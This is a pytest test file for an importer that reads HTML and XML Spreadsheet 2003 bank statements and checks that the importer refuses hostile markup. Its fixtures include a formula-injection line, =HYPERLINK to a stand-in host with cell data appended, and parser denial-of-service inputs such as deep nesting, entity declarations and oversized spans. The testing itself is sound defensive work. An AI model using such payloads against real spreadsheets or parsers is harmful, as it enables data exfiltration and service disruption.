"""HTML and XML Spreadsheet 2003 in files named .xls: tables like others, and never more."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest

from core.finance.imports.markup import limits
from core.kit.errors import Invalid
from tests.finance.imports.reading import read, shown, signed

PAGE = """<html xmlns:x="urn:schemas-microsoft-com:office:excel">
<head><meta http-equiv="Content-Type" content="text/html; charset=gb2312">
<style>td {mso-number-format:"\\@";}</style>
<script>if (1 < 2) { alert("<td>9</td>") }</script></head>
<body><h3>账户明细</h3><p>账号：6222021234567890</p>
<table border=1>
<tr><td colspan=4>查询期间：2026-05-01 至 2026-05-31</td></tr>
<TR><TH>交易日期<TH rowspan="1">摘要</TH><th>收入金额</th><th>支出金额</th></TR>
<tr><td>2026-05-01</td><td>工资 &amp;<br>奖金</td><td>&yen;1,234.50</td><td>&nbsp;</td></tr>
<!-- <tr><td>2026-05-02</td><td>gone</td><td>9.00</td><td></td></tr> -->
<tr><td>2026-05-03</td><td>=HYPERLINK("http://x/?"&amp;A1)</td><td></td><td>20.05</td></tr>
<tr><td>合计</td><td></td><td>1,234.50</td><td>20.05</td></tr>
</table></body></html>"""

BOOK = """<?xml version="1.0"?>
<?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"
 xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
 <Styles><Style ss:ID="s1"/></Styles>
 <Worksheet ss:Name="Cover"><Table><Row><Cell>
  <Data ss:Type="String">Bank</Data></Cell></Row></Table></Worksheet>
 <Worksheet ss:Name="May"><Table>
  <Row ss:Index="3"><Cell><Data ss:Type="String">Date</Data></Cell>
   <Cell><Data ss:Type="String">Text</Data></Cell>
   <Cell ss:Index="4"><Data ss:Type="String">Amount</Data></Cell></Row>
  <Row><Cell><Data ss:Type="DateTime">2026-05-01T00:00:00.000</Data></Cell>
   <Cell><Data ss:Type="String">rent &amp; heat</Data>
    <Comment><ss:Data>note 9.99</ss:Data></Comment></Cell>
   <Cell ss:Index="4"><Data ss:Type="Number">-1234.5</Data></Cell></Row>
  <Row><Cell><Data ss:Type="DateTime">2026-05-02T10:11:12.000</Data></Cell><Cell/>
   <Cell ss:Index="4"><Data ss:Type="Number">0.30000000000000004</Data></Cell></Row>
 </Table></Worksheet>
</Workbook>"""


@pytest.mark.parametrize("encoding", ["gb18030", "utf-8"])
def test_a_page_is_read_as_its_table(tmp_path: Path, encoding: str) -> None:
    found = shown(tmp_path, PAGE.encode(encoding))
    assert (found["encoding"], signed(found)) == (encoding, {"CNY": ("1234.50", "-20.05")})
    assert found["rows"] == {"total": 2, "new": 2, "duplicate": 0, "changed": 0, "rejected": 0,
                             "ignored": 5}  # fmt: skip
    assert found["columns"]["description"] == "摘要"
    assert found["questions"] == []
    texts = [one["examples"] for one in found["file_columns"] if one["name"] == "摘要"]
    assert texts == [["工资 & 奖金", '=HYPERLINK("http://x/?"&A1)']]


def test_tables_inside_tables_and_cells_that_span_rows(tmp_path: Path) -> None:
    page = (
        "<table><tr><td><table><tr><td rowspan=2>Date</td><td colspan=2>Money</td>"
        "<td rowspan=2>Text</td></tr><tr><td>Debit</td><td>Credit</td></tr>"
        "<tr><td>2026-05-01<td>1.00<td><td>a<tr><td>2026-05-02<td><td>2.50<td>b"
        "</table></td></tr></table>"
    )
    assert signed(shown(tmp_path, page)) == {None: ("2.50", "-1.00")}


def test_an_xml_spreadsheet_is_read_as_its_sheet(tmp_path: Path) -> None:
    found = shown(tmp_path, BOOK)
    assert (found["header_line"], signed(found)) == (3, {None: ("0.30", "-1234.50")})
    assert (found["first_date"], found["last_date"]) == ("2026-05-01", "2026-05-02")
    assert shown(tmp_path, BOOK.encode("utf-16"))["rows"]["new"] == 2


def deep(what: str) -> str:
    return what * 100_000


HOSTILE: dict[str, Any] = {
    "tables": deep("<table><tr><td>"),
    "comments": "<table>" + deep("<!--"),
    "tags": "<table>" + deep("<td a='"),
    "unclosed": "<table><tr><td>1<" + deep("a"),
    "wide": "<table><tr><td colspan=999>a<td colspan=999>b",
    "entity": "<!DOCTYPE x [<!ENTITY a 'b'>]>" + BOOK.partition("?>")[2].replace("Bank", "&a;"),
    "cut": BOOK[:900],
    "far": BOOK.replace('ss:Index="3"', 'ss:Index="9999999"'),
    "login": "<!DOCTYPE html><html><body><form>Please log in</form></body></html>",
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_hostile_markup_is_refused_at_once(tmp_path: Path, content: str) -> None:
    began = time.monotonic()
    with pytest.raises(Invalid):
        read(tmp_path, content)
    assert time.monotonic() - began < 3


@pytest.mark.parametrize(
    "content",
    [
        "<table>" + "<tr><td colspan=900>1" * 200,
        BOOK.replace("<Row>", "<Row>" + '<Cell ss:Index="900"/></Row><Row>' * 200),
        BOOK.replace("<Row>", "<Row>" + '<Cell ss:MergeAcross="900"/></Row><Row>' * 200),
    ],
)
def test_blank_cells_do_not_fill_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: str
) -> None:
    monkeypatch.setattr(limits, "MOST_WRITTEN", 100_000)
    with pytest.raises(Invalid, match=r"import\.archive_bomb"):
        read(tmp_path, content)


def test_a_sign_with_an_endless_number_is_no_sign(tmp_path: Path) -> None:
    page = PAGE.replace("工资", "工资&#" + "9" * 5000 + ";&#x" + "0" * 5000 + ";")
    assert signed(shown(tmp_path, page)) == {"CNY": ("1234.50", "-20.05")}


def test_what_begins_like_markup_may_be_a_table(tmp_path: Path) -> None:
    text = "<Date>,<Text>,<Amount>\n2026-05-01,<b>a</b>,-1.00\n2026-05-02,<td>,2.00\n"
    assert signed(shown(tmp_path, text)) == {None: ("2.00", "-1.00")}
